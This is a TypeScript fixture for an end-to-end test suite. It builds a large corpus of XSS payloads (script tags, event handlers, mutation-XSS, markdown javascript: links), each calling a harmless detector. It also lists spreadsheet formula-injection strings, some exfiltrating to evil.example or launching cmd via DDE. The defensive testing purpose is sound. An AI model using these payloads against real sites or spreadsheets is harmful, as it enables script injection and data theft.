/**
 * The XSS corpus of the browser battery (e2e/xss.spec.ts): each payload is a function of its id
 * that gives a text which, if the browser ever ran any of it, would call `window.__xss(id)` (or,
 * from a cross-origin frame, post `{ __xss: id }` to its parent), or open a dialog (alert,
 * confirm, prompt, print). `live` marks the payloads that DO fire when parsed as raw HTML with
 * `innerHTML` in a page without a CSP: the battery's control test proves that the detector sees
 * them, so a clean result means the product neutralised them, not that they were duds.
 */

export interface Payload {
  id: number;
  /** What the payload tries (for failure messages). */
  name: string;
  text: string;
  /** Fires when inserted with innerHTML into a page without a CSP (checked by the control). */
  live: boolean;
  /** Calls a dialog function instead of __xss. */
  dialog?: boolean;
}

type Maker = [name: string, make: (id: number) => string, live?: boolean, dialog?: boolean];

const c = (id: number) => `__xss(${id})`;
const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');
const ents = (s: string) => [...s].map((ch) => `&#${ch.charCodeAt(0)};`).join('');
const hexEnts = (s: string) => [...s].map((ch) => `&#x${ch.charCodeAt(0).toString(16)};`).join('');
const post = (id: number) => `<script>parent.postMessage({__xss:${id}},'*')</script>`;

const MAKERS: Maker[] = [
  // ── Raw HTML: script elements and event handlers ─────────────────────────────────────
  ['script', (i) => `<script>${c(i)}</script>`],
  ['script mixed case', (i) => `<ScRiPt>${c(i)}</sCrIpT>`],
  ['script src data', (i) => `<script src=data:,${c(i)}></script>`],
  ['script module', (i) => `<script type=module>${c(i)}</script>`],
  ['img onerror', (i) => `<img src=x onerror=${c(i)}>`, true],
  ['img onerror quoted', (i) => `<img src=x onerror="${c(i)}">`, true],
  ['img mixed case', (i) => `<IMG SRC=x OnErRoR=${c(i)}>`, true],
  ['img slashes', (i) => `<img/src="x"/onerror=${c(i)}>`, true],
  ['img handler entities', (i) => `<img src=x onerror=${ents('__xss')}(${i})>`, true],
  ['img handler paren entities', (i) => `<img src=x onerror=__xss&#40;${i}&#41;>`, true],
  ['img js unicode escape', (i) => `<img src=x onerror=\\u005f_xss(${i})>`, true],
  ['img js es6 escape', (i) => `<img src=x onerror=\\u{5f}_xss(${i})>`, true],
  ['img atob eval', (i) => `<img src=x onerror=eval(atob('${b64(c(i))}'))>`, true],
  ['img concat', (i) => `<img src=x onerror=window['__x'+'ss'](${i})>`, true],
  ['img empty src', (i) => `<img src onerror=${c(i)}>`, true],
  ['img backticks', (i) => `<img src=\`x\`onerror=${c(i)}>`],
  ['img unclosed', (i) => `<img src=x onerror=${c(i)}//`],
  ['img setTimeout', (i) => `<img src=x onerror=setTimeout('${c(i)}')>`, true],
  ['img Function', (i) => `<img src=x onerror=Function('${c(i)}')()>`, true],
  ['img top', (i) => `<img src=x onerror=top.${c(i)}>`, true],
  ['img self index', (i) => `<img src=x onerror=self['__xss'](${i})>`, true],
  ['img call', (i) => `<img src=x onerror=__xss.call(null,${i})>`, true],
  ['img srcset', (i) => `<img srcset=x onerror=${c(i)}>`, true],
  ['input image', (i) => `<input type=image src=x onerror=${c(i)}>`, true],
  ['svg onload', (i) => `<svg onload=${c(i)}>`, true],
  ['svg slash onload', (i) => `<svg/onload=${c(i)}>`, true],
  ['svg script', (i) => `<svg><script>${c(i)}</script></svg>`],
  ['svg animate onbegin', (i) => `<svg><animate onbegin=${c(i)} attributeName=x dur=1s>`, true],
  ['svg set onbegin', (i) => `<svg><set onbegin=${c(i)} attributeName=x to=1>`, true],
  ['svg a xlink', (i) => `<svg><a xlink:href="javascript:${c(i)}"><text y=9>x</text></a></svg>`],
  ['svg image onerror', (i) => `<svg><image href=x onerror=${c(i)}>`, true],
  ['svg style mxss', (i) => `<svg><style><img src=x onerror=${c(i)}></style></svg>`, true],
  [
    'svg foreignObject',
    (i) => `<svg><foreignObject><img src=x onerror=${c(i)}></foreignObject></svg>`,
    true,
  ],
  ['math mglyph mxss', (i) => `<math><mtext><table><mglyph><style><img src=x onerror=${c(i)}>`],
  ['iframe srcdoc', (i) => `<iframe srcdoc="<script>parent.${c(i)}</script>">`, true],
  [
    'iframe srcdoc entities',
    (i) => `<iframe srcdoc="&lt;img src=x onerror=parent.${c(i)}&gt;">`,
    true,
  ],
  ['iframe javascript', (i) => `<iframe src="javascript:parent.${c(i)}">`, true],
  ['iframe data', (i) => `<iframe src="data:text/html,${post(i)}">`],
  ['object data', (i) => `<object data="data:text/html,${post(i)}"></object>`],
  ['embed data', (i) => `<embed src="data:text/html;base64,${b64(post(i))}">`],
  ['body onload', (i) => `<body onload=${c(i)}>`],
  ['input autofocus', (i) => `<input autofocus onfocus=${c(i)}>`],
  ['details ontoggle', (i) => `<details open ontoggle=${c(i)}>`, true],
  ['video source onerror', (i) => `<video><source onerror=${c(i)}></video>`, true],
  ['audio onerror', (i) => `<audio src=x onerror=${c(i)}>`, true],
  ['marquee onstart', (i) => `<marquee onstart=${c(i)}>x</marquee>`],
  ['select autofocus', (i) => `<select autofocus onfocus=${c(i)}></select>`],
  ['textarea autofocus', (i) => `<textarea autofocus onfocus=${c(i)}></textarea>`],
  ['style onload', (i) => `<style onload=${c(i)}></style>`, true],
  ['form formaction', (i) => `<form><button formaction=javascript:${c(i)}>x</button></form>`],
  ['a javascript', (i) => `<a href=javascript:${c(i)}>x</a>`],
  ['a entity javascript', (i) => `<a href="${ents('javascript:')}${c(i)}">x</a>`],
  ['base href', (i) => `<base href="javascript:${c(i)}//">`],
  ['meta refresh', (i) => `<meta http-equiv=refresh content="0;url=javascript:${c(i)}">`],
  ['nested script filter', (i) => `<scr<script>ipt>${c(i)}</scr</script>ipt>`],
  ['double angle', (i) => `<<script>script>${c(i)}//<</script>/script>`],
  ['noscript mxss', (i) => `<noscript><p title="</noscript><img src=x onerror=${c(i)}>">`, true],
  ['xmp mxss', (i) => `<xmp><p title="</xmp><img src=x onerror=${c(i)}>">`, true],
  ['template', (i) => `<template><img src=x onerror=${c(i)}></template>`],
  ['comment breakout', (i) => `<!--<img src="--><img src=x onerror=${c(i)}//">`, true],
  ['title attribute breakout', (i) => `<a title="</a><img src=x onerror=${c(i)}>">x</a>`],
  ['picture source', (i) => `<picture><source srcset=x><img onerror=${c(i)}></picture>`, true],
  ['link stylesheet js', (i) => `<link rel=stylesheet href="javascript:${c(i)}">`],
  ['table background', (i) => `<table background="javascript:${c(i)}"><td>x</td></table>`],
  ['isindex', (i) => `<isindex type=image src=x onerror=${c(i)}>`],
  // ── Attribute and element breakouts ──────────────────────────────────────────────────
  ['double quote breakout', (i) => `"><img src=x onerror=${c(i)}>`, true],
  ['single quote breakout', (i) => `'><img src=x onerror=${c(i)}>`, true],
  ['quote svg breakout', (i) => `"><svg onload=${c(i)}>`, true],
  ['attribute injection', (i) => `" onmouseover="${c(i)}" x="`],
  ['autofocus injection', (i) => `" autofocus onfocus="${c(i)}`],
  ['single autofocus injection', (i) => `' autofocus onfocus='${c(i)}' x='`],
  ['unquoted attribute', (i) => `x onfocus=${c(i)} autofocus`],
  ['textarea breakout', (i) => `</textarea><img src=x onerror=${c(i)}>`, true],
  ['title breakout', (i) => `</title><img src=x onerror=${c(i)}>`, true],
  ['script breakout', (i) => `</script><script>${c(i)}</script>`],
  ['json-ld breakout', (i) => `</script><svg onload=${c(i)}>`, true],
  ['style breakout', (i) => `</style><img src=x onerror=${c(i)}>`, true],
  ['comment close', (i) => `--><img src=x onerror=${c(i)}>`, true],
  ['cdata close', (i) => `]]><img src=x onerror=${c(i)}>`, true],
  ['noscript close', (i) => `</noscript><img src=x onerror=${c(i)}>`, true],
  ['div close', (i) => `</p></div><img src=x onerror=${c(i)}>`, true],
  ['xml script', (i) => `<script xmlns="http://www.w3.org/1999/xhtml">${c(i)}</script>`],
  ['js string single', (i) => `';${c(i)};//`],
  ['js string double', (i) => `";${c(i)};//`],
  ['js string escaped', (i) => `\\";${c(i)};//`],
  ['template literal', (i) => `\${${c(i)}}`],
  ['angular template', (i) => `{{constructor.constructor('${c(i)}')()}}`],
  ['erb template', (i) => `<%= ${c(i)} %>`],
  ['plain javascript url', (i) => `javascript:${c(i)}`],
  ['url encoded', (i) => `%3Cimg%20src%3Dx%20onerror%3D${c(i)}%3E`],
  ['entity text', (i) => `&lt;img src=x onerror=${c(i)}&gt;`],
  ['numeric entity text', (i) => `&#60;img src=x onerror=${c(i)}&#62;`],
  ['fullwidth brackets', (i) => `＜script＞${c(i)}＜/script＞`],
  ['js escapes text', (i) => `\\x3cimg src=x onerror=${c(i)}\\x3e`],
  ['utf-7', (i) => `+ADw-script+AD4-${c(i)}+ADw-/script+AD4-`],
  ['arabic around img', (i) => `مرحبا<img src=x onerror=${c(i)}>عالم`, true],
  ['rtl override', (i) => `\u202e<img src=x onerror=${c(i)}>`, true],
  ['zero width', (i) => `<\u200bimg src=x onerror=${c(i)}>`],
  ['nbsp in tag', (i) => `<img\u00a0src=x\u00a0onerror=${c(i)}>`],
  ['tab in tag', (i) => `<img\tsrc=x\tonerror=${c(i)}>`, true],
  ['newline in tag', (i) => `<img\nsrc=x\nonerror=${c(i)}>`, true],
  // ── CSS ──────────────────────────────────────────────────────────────────────────────
  ['css url javascript', (i) => `<div style="background:url(javascript:${c(i)})">x</div>`],
  ['css expression', (i) => `<div style="width:expression(${c(i)})">x</div>`],
  ['css import', (i) => `<style>@import 'javascript:${c(i)}';</style>`],
  ['css style element url', (i) => `<style>*{background:url("javascript:${c(i)}")}</style>`],
  ['css behavior', (i) => `<div style="behavior:url(#x)" onreadystatechange=${c(i)}>x</div>`],
  // ── The article markup: [text](url) links and ![alt](url) images ─────────────────────
  ['md link javascript', (i) => `[x](javascript:${c(i)})`],
  ['md link mixed case', (i) => `[x](JaVaScRiPt:${c(i)})`],
  ['md link upper', (i) => `[x](JAVASCRIPT:${c(i)})`],
  ['md link decimal entity', (i) => `[x](&#106;avascript:${c(i)})`],
  ['md link hex entity', (i) => `[x](&#x6A;avascript:${c(i)})`],
  ['md link padded entity', (i) => `[x](&#0000106;avascript:${c(i)})`],
  [
    'md link entities no semicolon',
    (i) => `[x](&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58${c(i)})`,
  ],
  ['md link all entities', (i) => `[x](${ents('javascript:')}${c(i)})`],
  ['md link all hex entities', (i) => `[x](${hexEnts('javascript:')}${c(i)})`],
  ['md link colon entity', (i) => `[x](javascript&colon;${c(i)})`],
  ['md link colon decimal', (i) => `[x](javascript&#58;${c(i)})`],
  ['md link colon hex', (i) => `[x](JavaScript&#x3A;${c(i)})`],
  ['md link tab', (i) => `[x](java\tscript:${c(i)})`],
  ['md link tab entity', (i) => `[x](java&Tab;script:${c(i)})`],
  ['md link tab numeric', (i) => `[x](jav&#x09;ascript:${c(i)})`],
  ['md link newline entity', (i) => `[x](java&NewLine;script:${c(i)})`],
  ['md link newline', (i) => `[x](java\nscript:${c(i)})`],
  ['md link leading space', (i) => `[x]( javascript:${c(i)})`],
  ['md link control char', (i) => `[x](\u0001javascript:${c(i)})`],
  ['md link zero width', (i) => `[x](\u200bjavascript:${c(i)})`],
  ['md link inner zero width', (i) => `[x](java\u200bscript:${c(i)})`],
  ['md link nbsp', (i) => `[x](javascript\u00a0:${c(i)})`],
  ['md link partial entity', (i) => `[x](javas&#99;ript:${c(i)})`],
  ['md link double encoded', (i) => `[x](&amp;#106;avascript:${c(i)})`],
  ['md link percent', (i) => `[x](javascript:%5f%5fxss(${i}))`],
  ['md link comment newline', (i) => `[x](javascript://%0a${c(i)})`],
  ['md link fake https', (i) => `[x](javascript:${c(i)}//https://example.com)`],
  ['md link vbscript', (i) => `[x](vbscript:${c(i)})`],
  ['md link data html', (i) => `[x](data:text/html,${post(i)})`],
  ['md link data base64', (i) => `[x](data:text/html;base64,${b64(post(i))})`],
  ['md link href breakout', (i) => `[x](https://a.example" onmouseover="${c(i)})`],
  ['md link tag breakout', (i) => `[x](https://a.example/"><img src=x onerror=${c(i)}>)`],
  ['md link fragment breakout', (i) => `[x](#" autofocus onfocus="${c(i)})`],
  ['md link path breakout', (i) => `[x](/"onmouseover="${c(i)})`],
  ['md link html text', (i) => `[<img src=x onerror=${c(i)}>](https://example.com)`],
  ['md link title', (i) => `[x](javascript:${c(i)} "t")`],
  ['md link nested', (i) => `[[x](javascript:${c(i)})](https://example.com)`],
  ['md link chained', (i) => `[x](https://example.com)(javascript:${c(i)})`],
  ['md link mailto', (i) => `[x](mailto:a@b.example?body=<script>${c(i)}</script>)`],
  ['md link empty text', (i) => `[](javascript:${c(i)})`],
  ['md image javascript', (i) => `![x](javascript:${c(i)})`],
  ['md image alt breakout', (i) => `![x" onerror="${c(i)}](x)`],
  ['md image src breakout', (i) => `![x](x" onerror="${c(i)})`],
  ['md image https breakout', (i) => `![x](https://x.invalid/a.png" onerror="${c(i)})`],
  ['md image svg data', (i) => `![x](data:image/svg+xml,<svg onload=parent.${c(i)}>)`],
  [
    'md image svg base64',
    (i) =>
      `![x](data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${c(i)}"/>`)})`,
  ],
  ['md image html alt', (i) => `![<img src=x onerror=${c(i)}>](/x.png)`],
  ['md image in link', (i) => `[![x](javascript:${c(i)})](javascript:${c(i)})`],
  // ── The markup's bold, italic and underline around HTML ───────────────────────────────
  ['bold img', (i) => `**<img src=x onerror=${c(i)}>**`, true],
  ['italic svg', (i) => `*<svg onload=${c(i)}>*`, true],
  ['underline img', (i) => `<u><img src=x onerror=${c(i)}></u>`, true],
  ['underline handler', (i) => `<u onmouseover=${c(i)}>x</u>`],
  ['underline upper case', (i) => `<U>x</U><img src=x onerror=${c(i)}>`, true],
  ['bold link', (i) => `**[x](javascript:${c(i)})**`],
  ['underline link', (i) => `<u>[x](javascript:${c(i)})</u>`],
  ['heading img', (i) => `## <img src=x onerror=${c(i)}>`, true],
  ['list script', (i) => `- <script>${c(i)}</script>`],
  ['numbered svg', (i) => `1. <svg onload=${c(i)}>`, true],
  ['triple stars', (i) => `***<img src=x onerror=${c(i)}>***`, true],
  ['deep nesting', (i) => `<u>**<u>*[<img src=x onerror=${c(i)}>](#)*</u>**</u>`, true],
  ['bold around', (i) => `**x**<img src=x onerror=${c(i)}>**y**`, true],
  ['triple underline', (i) => `<u><u><u><img src=x onerror=${c(i)}></u></u></u>`, true],
  ['bold link text', (i) => `[**x**](javascript:${c(i)})`],
  ['unclosed underline', (i) => `<u>x<img src=x onerror=${c(i)}>`, true],
  ['star split tag', (i) => `<im*g* src=x onerror=${c(i)}>`],
  ['bold split tag', (i) => `<**img** src=x onerror=${c(i)}>`],
  // ── Dialogs ──────────────────────────────────────────────────────────────────────────
  ['alert img', (i) => `<img src=x onerror=alert(${i})>`, true, true],
  ['confirm svg', (i) => `<svg onload=confirm(${i})>`, true, true],
  ['prompt img', (i) => `<img src=x onerror=prompt(${i})>`, true, true],
  ['print img', () => `<img src=x onerror=print()>`, true, true],
  ['alert script', (i) => `<script>alert(${i})</script>`, false, true],
  ['alert md link', (i) => `[x](javascript:alert(${i}))`, false, true],
  ['alert backtick', (i) => `<img src=x onerror=alert\`${i}\`>`, true, true],
  ['confirm details', (i) => `<details open ontoggle=confirm(${i})>`, true, true],
];

export const PAYLOADS: readonly Payload[] = MAKERS.map(([name, make, live, dialog], index) => {
  const id = index + 1;
  return { id, name, text: make(id), live: live ?? false, ...(dialog ? { dialog } : {}) };
});

/**
 * Text for spreadsheet formula injection: the product must neutralise a cell starting with
 * = + - @ (and tab or CR; the API trims leading whitespace before storing).
 */
export const FORMULAS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '=1+1',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!A0",
  '+1+1',
  '-2+3',
  "-1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@IMPORTXML("http://evil.example","//a")',
  '\t=1+2',
  '\r=1+2',
  '\t\r+HYPERLINK("http://evil.example")',
  ' =IMPORTDATA("http://evil.example")',
  '=DDE("cmd";"/C calc";"!A0")',
];

/** E-mail addresses the schema accepts whose local part starts like a formula. */
export const FORMULA_EMAILS: readonly string[] = [
  '-2+3@example.com',
  '+cmd@example.com',
  "-x'a@example.com",
];

/** Phone numbers the schema accepts that start like a formula. */
export const FORMULA_PHONES: readonly string[] = [
  '+966 55 123 4567',
  '-2 345 6789',
  '-(555) 123-4567',
];

/** Greedily packs texts into strings of at most `max` characters, joined by `sep`. */
export function pack(texts: readonly string[], max: number, sep = ' '): string[] {
  const out: string[] = [];
  let current = '';
  for (const text of texts) {
    if (text.length > max) throw new Error(`payload longer than ${max}: ${text}`);
    const next = current ? `${current}${sep}${text}` : text;
    if (next.length > max) {
      out.push(current);
      current = text;
    } else {
      current = next;
    }
  }
  if (current) out.push(current);
  return out;
}
